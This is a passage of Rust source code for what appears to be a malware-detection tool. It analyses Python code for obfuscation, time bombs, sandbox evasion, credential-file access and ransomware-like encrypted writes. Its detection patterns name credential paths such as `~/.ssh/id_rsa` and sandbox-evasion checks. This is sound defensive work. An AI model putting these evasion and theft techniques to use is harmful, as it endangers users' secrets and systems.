//! Python extractor: tree-sitter-python AST → evidence.
//!
//! Calls are resolved through the file's imports to canonical dotted names
//! (`o.system` → `os.system`), string arguments are constant-folded
//! (concatenation, f-strings, `%`/`.format`, `join`, slicing, `chr`,
//! `os.path.join`, `Path.home() / ...`), and values are followed through
//! assignments, nested calls, parameters and returns. Comments and
//! docstrings are never code: only call nodes are classified.

use super::indicators::{
    TimeVal, classify_path, classify_url, is_date_gate, is_secret_env, reads_now_py, time_value,
};
use super::shell::{self, ArgvCx, Word};
use super::treesitter::{self, KindName, named_children, text, unescape};
use super::{Lang, Sink, Src};
use crate::evidence::{Evidence, Op, Origin, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};
use std::collections::{BTreeSet, HashMap, HashSet};
use tree_sitter::Node;

const LANG: &str = "python";
const MAX_DEPTH: usize = 200;
const MAX_ALIAS: usize = 64;

pub fn extract(src: &Src, sink: &mut Sink) {
    let tree = match treesitter::parse(Lang::Python, src.text) {
        Ok(t) => t,
        Err(e) => {
            sink.incomplete
                .push(format!("{}: Python code not parsed ({e})", src.path));
            return;
        }
    };
    let module = module_key(src.path);
    let mut cx = Py {
        src,
        sink,
        module,
        imports: HashMap::new(),
        locals: HashMap::new(),
        vars: HashMap::new(),
        alias: HashMap::new(),
        call_bind: HashMap::new(),
        lists: HashMap::new(),
        chr_fns: std::collections::HashSet::new(),
        rot13_fns: std::collections::HashSet::new(),
        times: HashMap::new(),
        conts: HashMap::new(),
        argvs: HashMap::new(),
        evasion_fns: HashSet::new(),
        enc_writes: Vec::new(),
        enc_vars: HashSet::new(),
        user_dirs: Vec::new(),
        fold_budget: std::cell::Cell::new(FOLD_BYTES_PER_BYTE * src.text.len() + (1 << 20)),
    };
    let root = tree.root_node();
    let start = cx.sink.items.len();
    cx.collect(root);
    cx.block(root, &Ctx::default(), 0);
    cx.ransom(start);
    if cx.fold_budget.get() == 0 {
        cx.sink.incomplete.push(format!(
            "{}: string values copied more than {FOLD_BYTES_PER_BYTE} bytes per byte of code; later values were not followed",
            src.path
        ));
    }
}

/// Bytes of known string values that folding may copy, per byte of code
/// (plus 1 MiB): `y = x + x` repeated doubles a value per line, and each
/// copy of a long value costs its length, so copies are counted and, past
/// the budget, variables are treated as unknown and the file is incomplete.
const FOLD_BYTES_PER_BYTE: usize = 8;
/// Longest known string value of a variable.
const MAX_VALUE_BYTES: usize = 1 << 20;

/// Bound on the candidates a container-valued expression stands for.
const MAX_CANDS: usize = 16;

/// A value built from literals: a string, a list/tuple/set, or a dict.
#[derive(Clone, Debug)]
enum Val {
    Str(String),
    /// An element that is not a literal: its expression text.
    Dyn(String),
    Seq(Vec<Val>),
    Map(Vec<(String, Val)>),
}

impl Val {
    /// What iterating the value yields.
    fn elements(&self) -> Vec<Val> {
        match self {
            Val::Str(_) | Val::Dyn(_) => Vec::new(),
            Val::Seq(v) => v.clone(),
            Val::Map(m) => m.iter().map(|(k, _)| Val::Str(k.clone())).collect(),
        }
    }
}

/// `scripts/main.py` → `scripts/main`.
pub fn module_key(path: &str) -> String {
    path.rsplit_once('.')
        .map(|(a, _)| a)
        .unwrap_or(path)
        .to_string()
}

/// Resolves `helpers`, `.util`, `lib.net` imported from `from_path` to a
/// module key relative to the skill.
fn local_module(from_path: &str, module: &str) -> String {
    let dir = from_path.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    let dots = module.chars().take_while(|c| *c == '.').count();
    let rest = module[dots..].replace('.', "/");
    let mut base: Vec<&str> = if dir.is_empty() {
        Vec::new()
    } else {
        dir.split('/').collect()
    };
    for _ in 1..dots.max(1) {
        base.pop();
    }
    if !rest.is_empty() {
        base.push(&rest);
    }
    base.join("/")
}

#[derive(Clone, Default)]
struct Ctx {
    /// Current function key and its parameter names.
    func: Option<(String, Vec<String>)>,
    gate: Option<Tag>,
    unbounded: bool,
}

struct Py<'s, 'a> {
    src: &'s Src<'a>,
    sink: &'s mut Sink,
    module: String,
    /// alias → canonical dotted name (`o` → `os`, `r` → `subprocess.run`).
    imports: HashMap<String, String>,
    /// Bytes of variable values folding may still copy (0: exhausted).
    fold_budget: std::cell::Cell<usize>,
    /// local callable name → function key (`collect` → `scripts/helpers::collect`),
    /// or local module alias → module key (prefixed with `mod:`).
    locals: HashMap<String, String>,
    /// Known string values of variables.
    vars: HashMap<String, String>,
    /// Variable binding → the bindings its value came from.
    alias: HashMap<String, Vec<String>>,
    /// Call start byte → the binding its result is known by.
    call_bind: HashMap<usize, String>,
    /// Known string lists (`targets = ["~/.ssh/id_rsa", ...]`).
    lists: HashMap<String, Vec<String>>,
    /// Helpers that build strings from character codes (`_c = lambda *n: "".join(map(chr, n))`).
    chr_fns: std::collections::HashSet<String>,
    /// Helpers that ROT13 their argument (`_r = lambda s: codecs.decode(s, "rot13")`).
    rot13_fns: std::collections::HashSet<String>,
    /// Variables holding the current time or an absolute date constant.
    times: HashMap<String, TimeVal>,
    /// Variables holding list, tuple, set or dict literals (nested).
    conts: HashMap<String, Val>,
    /// Variables standing for one of a few argv lists (`for cmd in cmds:`
    /// over a literal list of lists).
    argvs: HashMap<String, Vec<Vec<Val>>>,
    /// Skill functions whose body combines several sandbox or analysis
    /// checks (container marker, CI variables, CPU count, host name): a
    /// condition calling one is an environment gate.
    evasion_fns: HashSet<String>,
    /// Writes of encrypted data: (call start, call end, enclosing function).
    enc_writes: Vec<(usize, usize, Option<String>)>,
    /// Variables holding the result of an `encrypt(...)` call.
    enc_vars: HashSet<String>,
    /// The user's own folders (`~/Documents`, `~/Desktop`, ...) the file
    /// names as values.
    user_dirs: Vec<String>,
}

/// Standard-library and popular third-party roots: never skill-local.
const KNOWN_ROOTS: &[&str] = &[
    "os",
    "sys",
    "subprocess",
    "socket",
    "requests",
    "httpx",
    "urllib",
    "http",
    "json",
    "base64",
    "zlib",
    "gzip",
    "codecs",
    "binascii",
    "marshal",
    "pickle",
    "shutil",
    "pathlib",
    "time",
    "datetime",
    "random",
    "re",
    "platform",
    "getpass",
    "uuid",
    "threading",
    "multiprocessing",
    "asyncio",
    "aiohttp",
    "urllib3",
    "smtplib",
    "ftplib",
    "importlib",
    "builtins",
    "ctypes",
    "glob",
    "tempfile",
    "logging",
    "argparse",
    "typing",
    "collections",
    "itertools",
    "functools",
    "hashlib",
    "hmac",
    "secrets",
    "string",
    "math",
    "csv",
    "sqlite3",
    "keyring",
    "pyperclip",
    "dns",
    "paramiko",
    "boto3",
    "yaml",
    "dataclasses",
    "enum",
    "io",
    "struct",
    "signal",
    "pty",
    "concurrent",
    "stat",
    "textwrap",
    "pprint",
    "traceback",
    "inspect",
    "contextlib",
    "abc",
    "copy",
    "webbrowser",
];

impl<'s, 'a> Py<'s, 'a> {
    fn t(&self, n: Node) -> &'a str {
        text(n, self.src.text)
    }

    /// One pass over the file before the analysis: imports, local
    /// functions, and helpers that decode strings (`chr` joins, ROT13).
    fn collect(&mut self, root: Node) {
        let mut imports = Vec::new();
        let mut defs = Vec::new();
        let mut chr_helpers = Vec::new();
        let mut rot_helpers = Vec::new();
        treesitter::walk(root, |n| {
            let kind = n.kind_name();
            if matches!(kind, "import_statement" | "import_from_statement") {
                imports.push(n);
                return false;
            }
            if kind == "function_definition" {
                defs.push(n);
            }
            if kind == "assignment" || kind == "function_definition" {
                let body = n
                    .child_by_field_name("right")
                    .or_else(|| n.child_by_field_name("body"))
                    .map(|b| self.t(b))
                    .unwrap_or("");
                let name = || {
                    n.child_by_field_name("left")
                        .or_else(|| n.child_by_field_name("name"))
                        .map(|x| self.t(x).to_string())
                };
                // Cheap tests first: a function body can be most of the file.
                let chr = body.contains("chr") && body.contains("join");
                let codecs = body.contains("codecs");
                if chr || codecs {
                    let compact: String = body.chars().filter(|c| !c.is_whitespace()).collect();
                    if compact.contains("join(map(chr,") || compact.contains("join(chr(") {
                        chr_helpers.extend(name());
                    }
                    if compact.contains("codecs.decode(") && compact.to_lowercase().contains("rot")
                    {
                        rot_helpers.extend(name());
                    }
                }
            }
            !matches!(kind, "string" | "comment")
        });
        self.register_imports(imports);
        self.chr_fns.extend(chr_helpers);
        self.rot13_fns.extend(rot_helpers);
        self.register_defs(defs);
    }

    fn register_imports(&mut self, imports: Vec<Node>) {
        for n in imports {
            if n.kind_name() == "import_statement" {
                for ch in named_children(n) {
                    let (name, alias) = match ch.kind_name() {
                        "aliased_import" => (
                            ch.child_by_field_name("name")
                                .map(|x| self.t(x))
                                .unwrap_or(""),
                            ch.child_by_field_name("alias")
                                .map(|x| self.t(x).to_string()),
                        ),
                        _ => (self.t(ch), None),
                    };
                    let root = name.split('.').next().unwrap_or(name);
                    let local = !KNOWN_ROOTS.contains(&root);
                    let key = alias.unwrap_or_else(|| root.to_string());
                    if local {
                        self.locals
                            .insert(key, format!("mod:{}", local_module(self.src.path, name)));
                    } else {
                        let canon = if key == root {
                            root.to_string()
                        } else {
                            name.to_string()
                        };
                        self.imports.insert(key, canon);
                    }
                }
            } else {
                let module = n
                    .child_by_field_name("module_name")
                    .map(|x| self.t(x))
                    .unwrap_or("");
                let root = module
                    .trim_start_matches('.')
                    .split('.')
                    .next()
                    .unwrap_or("");
                let local =
                    module.starts_with('.') || !KNOWN_ROOTS.contains(&root) && !root.is_empty();
                let mut c = n.walk();
                for ch in n.children_by_field_name("name", &mut c) {
                    let (name, alias) = match ch.kind_name() {
                        "aliased_import" => (
                            ch.child_by_field_name("name")
                                .map(|x| self.t(x))
                                .unwrap_or(""),
                            ch.child_by_field_name("alias")
                                .map(|x| self.t(x))
                                .unwrap_or(""),
                        ),
                        _ => (self.t(ch), self.t(ch)),
                    };
                    let alias = if alias.is_empty() { name } else { alias };
                    if local {
                        let m = local_module(self.src.path, module);
                        self.locals
                            .insert(alias.to_string(), format!("{m}::{name}"));
                    } else {
                        self.imports
                            .insert(alias.to_string(), format!("{module}.{name}"));
                    }
                }
            }
        }
    }

    /// Functions and methods defined in this file are local call targets.
    fn register_defs(&mut self, defs: Vec<Node>) {
        for d in defs {
            if let Some(name) = d.child_by_field_name("name") {
                let name = self.t(name).to_string();
                let body = d
                    .child_by_field_name("body")
                    .map(|b| self.t(b))
                    .unwrap_or("");
                if evasion_checks(body) >= 2 {
                    self.evasion_fns.insert(name.clone());
                }
                self.locals
                    .entry(name.clone())
                    .or_insert_with(|| format!("{}::{name}", self.module));
            }
        }
    }

    // ---------------------------------------------------------------- statements

    fn block(&mut self, node: Node, cx: &Ctx, depth: usize) {
        if depth > MAX_DEPTH {
            self.sink.incomplete.push(format!(
                "{}: Python nesting deeper than {MAX_DEPTH}",
                self.src.path
            ));
            return;
        }
        match node.kind_name() {
            "function_definition" => {
                let name = node
                    .child_by_field_name("name")
                    .map(|n| self.t(n).to_string())
                    .unwrap_or_default();
                let key = format!("{}::{name}", self.module);
                let mut params = Vec::new();
                if let Some(ps) = node.child_by_field_name("parameters") {
                    for p in named_children(ps) {
                        let id = match p.kind_name() {
                            "identifier" => self.t(p),
                            _ => p
                                .child_by_field_name("name")
                                .or_else(|| p.named_child(0))
                                .map(|x| self.t(x))
                                .unwrap_or(""),
                        };
                        if id != "self" && id != "cls" {
                            params.push(id.to_string());
                        }
                    }
                }
                let inner = Ctx {
                    func: Some((key.clone(), params)),
                    gate: cx.gate,
                    unbounded: cx.unbounded,
                };
                let before = self.sink.items.len();
                if let Some(body) = node.child_by_field_name("body") {
                    self.body_with_guards(body, &inner, depth + 1);
                }
                for e in &mut self.sink.items[before..] {
                    if e.func.is_none() {
                        e.func = Some(key.clone());
                    }
                }
            }
            "if_statement" => {
                let cond = node.child_by_field_name("condition");
                let mut inner = cx.clone();
                if let Some(c) = cond {
                    self.expr(c, cx, None);
                    if let Some(g) = self.gate_of(c) {
                        inner.gate = Some(g);
                        let before = self.sink.items.len();
                        for ch in named_children(node)
                            .into_iter()
                            .filter(|n| Some(*n) != cond)
                        {
                            self.block(ch, &inner, depth + 1);
                        }
                        self.trigger(node, g, before);
                        return;
                    }
                }
                for ch in named_children(node)
                    .into_iter()
                    .filter(|n| Some(*n) != cond)
                {
                    self.block(ch, &inner, depth + 1);
                }
            }
            "while_statement" => {
                let mut inner = cx.clone();
                let cond = node
                    .child_by_field_name("condition")
                    .map(|c| self.t(c))
                    .unwrap_or("");
                let body = node
                    .child_by_field_name("body")
                    .map(|b| self.t(b))
                    .unwrap_or("");
                if matches!(cond.trim(), "True" | "1" | "not False")
                    && !body.contains("break")
                    && !body.contains("return")
                    && !body.contains("sys.exit")
                    && !body.contains("sleep(")
                {
                    inner.unbounded = true;
                    let line_end =
                        node.start_byte() + self.t(node).find('\n').unwrap_or(self.t(node).len());
                    let ev = Evidence::new(Op::Loop, A::CallTool, R::Process, "while True")
                        .object("loop without exit")
                        .instrument("while")
                        .tag(Tag::Unbounded);
                    self.emit(ev, node.start_byte(), line_end, cx);
                }
                for ch in named_children(node) {
                    self.block(ch, &inner, depth + 1);
                }
            }
            "for_statement" => {
                // `for p in ("~/.aws/credentials", Path.home() / "x")`: the
                // loop variable takes the riskiest literal it iterates.
                if let (Some(l), Some(r)) = (
                    node.child_by_field_name("left"),
                    node.child_by_field_name("right"),
                ) {
                    if l.kind_name() == "identifier" {
                        // Containers: `for cmd in D.get(k, [])` over a dict
                        // of argv lists takes each list in turn.
                        let name = self.t(l).to_string();
                        let elems = self.iter_elems(r, 0);
                        let mut vals = self.iter_values(r);
                        if vals.is_empty() {
                            vals = strs(elems.clone());
                        }
                        if vals.is_empty()
                            && matches!(
                                r.kind_name(),
                                "list_comprehension" | "set_comprehension" | "generator_expression"
                            )
                        {
                            vals = self.comp_values(r);
                        }
                        for v in &vals {
                            self.note_value(v);
                        }
                        let pick = riskiest(&vals);
                        if let Some(v) = pick {
                            self.vars.insert(name.clone(), v);
                        }
                        let argvs: Vec<Vec<Val>> = elems
                            .into_iter()
                            .filter_map(|v| match v {
                                Val::Seq(x)
                                    if matches!(x.first(), Some(Val::Str(_)))
                                        && x.iter()
                                            .all(|e| matches!(e, Val::Str(_) | Val::Dyn(_))) =>
                                {
                                    Some(x)
                                }
                                _ => None,
                            })
                            .collect();
                        if argvs.is_empty() {
                            self.argvs.remove(&name);
                        } else {
                            self.argvs.insert(name, argvs);
                        }
                    }
                    self.expr(r, cx, None);
                }
                for ch in named_children(node) {
                    if Some(ch) != node.child_by_field_name("right") {
                        self.block(ch, cx, depth + 1);
                    }
                }
            }
            "expression_statement" => {
                for ch in named_children(node) {
                    self.block(ch, cx, depth + 1);
                }
            }
            "assignment" | "augmented_assignment" => self.assignment(node, cx),
            "return_statement" => {
                if let Some(v) = node.named_child(0) {
                    self.expr(v, cx, None);
                    if let Some((key, _)) = &cx.func {
                        let mut ev =
                            Evidence::new(Op::Return, A::Terminate, R::Memory, key.clone())
                                .object("function result");
                        ev.inputs = self.bindings(v, cx);
                        self.emit(ev, node.start_byte(), node.end_byte(), cx);
                    }
                }
            }
            "with_statement" => {
                // `with open(p) as f:` binds `$f` to the file read.
                let mut c = node.walk();
                for item in node.named_children(&mut c) {
                    if item.kind_name() == "with_clause" {
                        for wi in named_children(item) {
                            let val = wi.child_by_field_name("value").unwrap_or(wi);
                            let (v, target) = if val.kind_name() == "as_pattern" {
                                (
                                    val.named_child(0).unwrap_or(val),
                                    val.child_by_field_name("alias")
                                        .or_else(|| val.named_child(1)),
                                )
                            } else {
                                (val, None)
                            };
                            self.expr(v, cx, None);
                            if let Some(t) = target {
                                let name = self.t(t).trim().to_string();
                                let b = self.bindings(v, cx);
                                self.alias.insert(format!("${name}"), b);
                            }
                        }
                    } else {
                        self.block(item, cx, depth + 1);
                    }
                }
            }
            "call" | "await" | "binary_operator" | "subscript" | "attribute" => {
                self.expr(node, cx, None)
            }
            "comment" | "string" | "import_statement" | "import_from_statement" => {}
            _ => {
                for ch in named_children(node) {
                    self.block(ch, cx, depth + 1);
                }
            }
        }
    }

    /// A function body where `if <check>: return` at the top gates the rest
    /// (sandbox evasion: `if os.path.exists("/.dockerenv"): return`).
    fn body_with_guards(&mut self, body: Node, cx: &Ctx, depth: usize) {
        let mut cur = cx.clone();
        for st in named_children(body) {
            if st.kind_name() == "if_statement" {
                let exits = st.child_by_field_name("consequence").map(|c| {
                    let t = self.t(c).trim();
                    t.starts_with("return")
                        || t.starts_with("sys.exit")
                        || t.starts_with("raise")
                        || t == "pass"
                });
                if exits == Some(true) && st.child_by_field_name("alternative").is_none() {
                    if let Some(g) = st
                        .child_by_field_name("condition")
                        .and_then(|c| self.gate_of(c))
                    {
                        cur.gate = Some(g);
                        continue;
                    }
                }
            }
            let before = self.sink.items.len();
            self.block(st, &cur, depth);
            if let Some(g) = cur.gate.filter(|_| cx.gate.is_none()) {
                self.trigger(st, g, before);
            }
        }
    }

    fn trigger(&mut self, node: Node, g: Tag, before: usize) {
        let risky = self.sink.items[before..].iter().any(|e| {
            matches!(
                e.op,
                Op::NetSend
                    | Op::NetFetch
                    | Op::Exec
                    | Op::DynamicCode
                    | Op::DownloadExec
                    | Op::FileDelete
                    | Op::EnvDump
                    | Op::SocketConnect
                    | Op::ReverseShell
                    | Op::CallLocal
            ) || e.scope == R::Credentials
        });
        if risky
            && !self.sink.items[before..]
                .iter()
                .any(|e| e.op == Op::Trigger)
        {
            let line_end =
                node.start_byte() + self.t(node).find('\n').unwrap_or(self.t(node).len());
            let ev = Evidence::new(
                Op::Trigger,
                A::Compare,
                R::Other,
                crate::text::snippet(self.t(node), 80),
            )
            .object("condition gating a risky action")
            .instrument("if")
            .tag(g);
            let ev = self.src.at(ev, node.start_byte(), line_end, LANG);
            self.sink.push(ev);
        }
    }

    fn gate_of(&self, cond: Node) -> Option<Tag> {
        let c = self.t(cond);
        let l = c.to_lowercase();
        // A date gate compares now with a fixed date (a time bomb); expiry,
        // cache and timeout checks are relative and do not count.
        if is_date_gate(c, reads_now_py, &self.times) {
            Some(Tag::DateGate)
        } else if self.calls_evasion_fn(c)
            || l.contains("dockerenv")
            || l.contains("\"ci\"")
            || l.contains("'ci'")
            || l.contains("github_actions")
            || l.contains("cpu_count")
            || l.contains("gethostname")
            || l.contains("platform.node")
            || l.contains("gettrace")
            || l.contains("virtual")
            || l.contains("vmware")
            || l.contains("virtualbox")
            || l.contains("sandbox")
            || l.contains("debugger")
        {
            Some(Tag::EnvGate)
        } else if l.contains("exists(")
            && (l.contains("marker")
                || (l.contains("/.") && l.trim_start().starts_with("not "))
                || l.contains("first")
                || l.contains("stamp")
                || l.contains("_done")
                || l.contains("installed"))
        {
            Some(Tag::FirstRun)
        } else {
            None
        }
    }

    /// Whether a condition calls a skill function that probes for a
    /// sandbox (`if _interactive_host():`).
    fn calls_evasion_fn(&self, cond: &str) -> bool {
        self.evasion_fns.iter().any(|f| {
            cond.match_indices(f.as_str()).any(|(i, _)| {
                let before = cond[..i].chars().next_back();
                !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
                    && cond[i + f.len()..].trim_start().starts_with('(')
            })
        })
    }

    fn assignment(&mut self, node: Node, cx: &Ctx) {
        let Some(right) = node.child_by_field_name("right") else {
            return;
        };
        self.expr(right, cx, None);
        let Some(left) = node.child_by_field_name("left") else {
            return;
        };
        let b = self.bindings(right, cx);
        let value = if self.append_in_place(node, left, right) {
            None
        } else {
            self.fold(right, 0)
        };
        if left.kind_name() == "identifier" {
            let name = self.t(left).to_string();
            match time_value(self.t(right), reads_now_py) {
                Some(t) if node.kind_name() != "augmented_assignment" => {
                    self.times.insert(name, t);
                }
                _ => {
                    self.times.remove(&name);
                }
            }
        }
        if left.kind_name() == "identifier" && matches!(right.kind_name(), "list" | "tuple" | "set")
        {
            let vals = self.iter_values(right);
            for v in &vals {
                self.note_value(v);
            }
            if !vals.is_empty() {
                self.lists.insert(self.t(left).to_string(), vals);
            }
        }
        if left.kind_name() == "identifier" && node.kind_name() == "assignment" {
            let name = self.t(left).to_string();
            self.argvs.remove(&name);
            if self.is_encrypt(right) {
                self.enc_vars.insert(name.clone());
            } else {
                self.enc_vars.remove(&name);
            }
            if matches!(
                right.kind_name(),
                "list_comprehension" | "set_comprehension" | "generator_expression"
            ) {
                // `[HOME / d for d in ("Documents", "Desktop")]`
                let vals = self.comp_values(right);
                for v in &vals {
                    self.note_value(v);
                }
                if vals.is_empty() {
                    self.conts.remove(&name);
                } else {
                    self.conts.insert(
                        name.clone(),
                        Val::Seq(vals.iter().cloned().map(Val::Str).collect()),
                    );
                    self.lists.insert(name, vals);
                }
            } else {
                match self.container_of(right, 0) {
                    Some(v @ (Val::Seq(_) | Val::Map(_))) => {
                        self.conts.insert(name, v);
                    }
                    _ => {
                        self.conts.remove(&name);
                    }
                }
            }
        }
        let names: Vec<String> = match left.kind_name() {
            "identifier" => vec![self.t(left).to_string()],
            "pattern_list" | "tuple_pattern" => named_children(left)
                .into_iter()
                .filter(|n| n.kind_name() == "identifier")
                .map(|n| self.t(n).to_string())
                .collect(),
            "subscript" | "attribute" => {
                // `d["k"] = x` / `o.k = x`: the container carries x.
                left.child_by_field_name("value")
                    .or_else(|| left.child_by_field_name("object"))
                    .map(|n| vec![self.t(n).to_string()])
                    .unwrap_or_default()
            }
            _ => Vec::new(),
        };
        for n in names {
            let key = format!("${n}");
            if node.kind_name() == "augmented_assignment" || left.kind_name() != "identifier" {
                let e = self.alias.entry(key).or_default();
                e.extend(b.iter().cloned());
                e.truncate(MAX_ALIAS);
            } else {
                self.alias
                    .insert(key, b.iter().take(MAX_ALIAS).cloned().collect());
            }
            if let Some(v) = &value {
                if left.kind_name() == "identifier" {
                    self.note_value(v);
                    if v.len() <= MAX_VALUE_BYTES {
                        self.vars.insert(n, v.clone());
                    } else {
                        self.vars.remove(&n);
                    }
                }
            }
        }
    }

    /// A variable's known value, copied within the fold budget.
    fn var_copy(&self, name: &str) -> Option<String> {
        let v = self.vars.get(name)?;
        let left = self.fold_budget.get();
        if v.len() > left {
            self.fold_budget.set(0);
            return None;
        }
        self.fold_budget.set(left - v.len());
        Some(v.clone())
    }

    /// `x = x + <expr>` with `x` known: the value grows in place (folding
    /// `x` copied the growing value on every line: 208 KB took 4.7 s).
    fn append_in_place(&mut self, node: Node, left: Node, right: Node) -> bool {
        if node.kind_name() != "assignment"
            || left.kind_name() != "identifier"
            || right.kind_name() != "binary_operator"
            || right.child_by_field_name("operator").map(|o| self.t(o)) != Some("+")
        {
            return false;
        }
        let name = self.t(left);
        let Some(l) = right.child_by_field_name("left") else {
            return false;
        };
        if l.kind_name() != "identifier" || self.t(l) != name || !self.vars.contains_key(name) {
            return false;
        }
        let tail = right
            .child_by_field_name("right")
            .and_then(|r| self.fold(r, 1))
            .unwrap_or_else(|| "{?}".into());
        let name = name.to_string();
        let Some(v) = self.vars.get_mut(&name) else {
            return false;
        };
        if v.len() + tail.len() > MAX_VALUE_BYTES {
            self.vars.remove(&name);
            return true;
        }
        v.push_str(&tail);
        if v.len() <= 4096 {
            let v = v.clone();
            self.note_value(&v);
        }
        true
    }

    // ---------------------------------------------------------------- expressions

    /// Handles every call in an expression, innermost first.
    fn expr<'t>(&mut self, node: Node<'t>, cx: &Ctx, _assigned: Option<&str>) {
        let mut calls = Vec::new();
        let mut envs = Vec::new();
        // Comprehension variables take the riskiest value they iterate.
        let mut comps = Vec::new();
        let comp = |n: Node<'t>, comps: &mut Vec<Node<'t>>| {
            if n.kind_name() == "for_in_clause" {
                comps.push(n);
            }
        };
        treesitter::walk(node, |n| {
            comp(n, &mut comps);
            if matches!(n.kind_name(), "lambda" | "string" | "comment") && n != node {
                // Calls in a string are text; comprehensions in an
                // f-string's `{…}` still bind their variable.
                if n.kind_name() == "string" {
                    treesitter::walk(n, |m| {
                        if m != n {
                            comp(m, &mut comps);
                        }
                        true
                    });
                }
                return n.kind_name() == "lambda";
            }
            if n.kind_name() == "call" {
                calls.push(n);
            }
            if n.kind_name() == "subscript"
                && n.child_by_field_name("value").is_some_and(|v| {
                    let t = self.t(v);
                    t == "os.environ" || self.imports.get(t).is_some_and(|c| c == "os.environ")
                })
            {
                envs.push(n);
            }
            true
        });
        for fc in comps {
            if let (Some(l), Some(r)) = (
                fc.child_by_field_name("left"),
                fc.child_by_field_name("right"),
            ) {
                if l.kind_name() == "identifier" {
                    let vals = self.iter_values(r);
                    if let Some(v) = riskiest(&vals) {
                        self.vars.insert(self.t(l).to_string(), v);
                    }
                }
            }
        }
        for e in envs {
            let var = e
                .child_by_field_name("subscript")
                .and_then(|k| self.fold(k, 0))
                .unwrap_or_default();
            self.env_read(&var, e, cx);
        }
        // Post-order: inner calls (later starts, smaller spans) first.
        calls.sort_by_key(|n| (std::cmp::Reverse(n.start_byte()), n.end_byte()));
        for c in calls {
            self.call(c, cx);
        }
    }

    /// `$`-bindings an expression's value comes from (identifiers, known
    /// call results, parameters), expanded through assignments.
    fn bindings(&self, node: Node, cx: &Ctx) -> Vec<String> {
        let mut raw = Vec::new();
        // --- hardening (issue 6) --- `Node::parent` costs O(depth) in
        // tree-sitter, and this walk asked it for every identifier: 400
        // nested calls took 8 s and 10,000 never finished. Children to skip
        // are now marked when their parent is visited (pre-order), and only
        // the root still asks for its parent.
        // Each call walks its arguments, so n nested calls cost n² visits:
        // past a budget of nodes, an expression's bindings are approximate.
        let mut skip: HashSet<usize> = HashSet::new();
        let root = node.id();
        let mut budget = 2_048usize;
        // --- end hardening ---
        treesitter::walk(node, |n| {
            if budget == 0 {
                return false;
            }
            // `a if cond else b`: the value is a or b, never the condition.
            if n.kind_name() == "conditional_expression" && n.id() != root {
                let kids = named_children(n);
                for k in [kids.first(), kids.last()].into_iter().flatten() {
                    raw.extend(self.bindings(*k, cx));
                }
                return false;
            }
            budget -= 1;
            let kind = n.kind_name();
            // `sys.argv[1]`: the script's first command-line argument, bound
            // to what a caller (SKILL.md: `python scripts/x.py ARG`) passes.
            if kind == "subscript"
                && n.child_by_field_name("value").is_some_and(|v| {
                    let t = self.t(v);
                    t == "sys.argv" || self.imports.get(t).is_some_and(|c| c == "sys.argv")
                })
            {
                if let Some(i) = n
                    .child_by_field_name("subscript")
                    .and_then(|i| self.t(i).parse::<usize>().ok())
                    .filter(|i| (1..32).contains(i))
                {
                    raw.push(super::script_param(self.src.path, i - 1));
                    return false;
                }
            }
            if kind == "call" || kind == "subscript" {
                if let Some(b) = self.call_bind.get(&n.start_byte()) {
                    raw.push(b.clone());
                }
            }
            let field = match kind {
                "attribute" => Some("attribute"),
                "keyword_argument" => Some("name"),
                "call" => Some("function"),
                _ => None,
            };
            if let Some(c) = field.and_then(|f| n.child_by_field_name(f)) {
                skip.insert(c.id());
            }
            if kind == "identifier" {
                // Skip attribute names and keyword names: `a.b` binds `a` only.
                let skipped = if n.id() == root {
                    n.parent().is_some_and(|p| {
                        let f = match p.kind_name() {
                            "attribute" => "attribute",
                            "keyword_argument" => "name",
                            "call" => "function",
                            _ => return false,
                        };
                        p.child_by_field_name(f) == Some(n)
                    })
                } else {
                    skip.contains(&n.id())
                };
                if !skipped {
                    let id = self.t(n);
                    if let Some((key, params)) = &cx.func {
                        if let Some(i) = params.iter().position(|p| p == id) {
                            raw.push(format!("$param:{key}:{i}"));
                            return true;
                        }
                    }
                    raw.push(format!("${id}"));
                }
            }
            kind != "lambda"
        });
        self.closure(raw)
    }

    /// The bindings `raw` came from, transitively. An alias entry already
    /// holds the closure of its value (it was computed when the variable
    /// was assigned), so the walk is bounded by `MAX_ALIAS * 16` steps in
    /// all: an `a1 = a0` chain once re-expanded every earlier link on every
    /// line (54 KB took 17.5 s).
    fn closure(&self, raw: Vec<String>) -> Vec<String> {
        let mut out = BTreeSet::new();
        let mut stack = raw;
        let mut steps = MAX_ALIAS * 16;
        while let Some(b) = stack.pop() {
            if out.len() > MAX_ALIAS * 4 {
                break;
            }
            if out.insert(b.clone()) {
                if let Some(srcs) = self.alias.get(&b) {
                    for s in srcs {
                        if steps == 0 {
                            break;
                        }
                        steps -= 1;
                        if !out.contains(s) {
                            stack.push(s.clone());
                        }
                    }
                }
            }
        }
        out.into_iter().collect()
    }

    /// Canonical dotted name of a callee, and whether it was computed.
    fn callee(&self, f: Node, depth: usize) -> (String, bool) {
        if depth > 16 {
            return (String::new(), false);
        }
        match f.kind_name() {
            "identifier" => {
                let id = self.t(f);
                (
                    self.imports
                        .get(id)
                        .cloned()
                        .unwrap_or_else(|| id.to_string()),
                    false,
                )
            }
            "attribute" => {
                let obj = f.child_by_field_name("object");
                let attr = f
                    .child_by_field_name("attribute")
                    .map(|a| self.t(a))
                    .unwrap_or("");
                let (base, comp) = obj.map(|o| self.callee(o, depth + 1)).unwrap_or_default();
                (format!("{base}.{attr}"), comp)
            }
            "call" => {
                let inner = f
                    .child_by_field_name("function")
                    .map(|x| self.callee(x, depth + 1))
                    .unwrap_or_default();
                let args = self.args(f);
                match inner.0.as_str() {
                    "__import__" | "importlib.import_module" => {
                        let m = args
                            .first()
                            .and_then(|a| self.fold(*a, 0))
                            .unwrap_or_default();
                        let computed = args.first().is_some_and(|a| a.kind_name() != "string");
                        (m, computed || inner.0 == "__import__")
                    }
                    "getattr" => {
                        let base = args
                            .first()
                            .map(|a| self.callee(*a, depth + 1))
                            .unwrap_or_default();
                        let attr = args
                            .get(1)
                            .and_then(|a| self.fold(*a, 0))
                            .unwrap_or_default();
                        let b = if base.0 == "builtins" || base.0.is_empty() {
                            attr
                        } else {
                            format!("{}.{attr}", base.0)
                        };
                        (b, true)
                    }
                    "pathlib.Path" | "Path" => ("pathlib.Path()".into(), inner.1),
                    _ => (format!("{}()", inner.0), inner.1),
                }
            }
            "subscript" => {
                // `globals()['ev'+'al']`, `__builtins__.__dict__['exec']`
                let v = f
                    .child_by_field_name("value")
                    .map(|x| self.t(x))
                    .unwrap_or("");
                let key = f
                    .child_by_field_name("subscript")
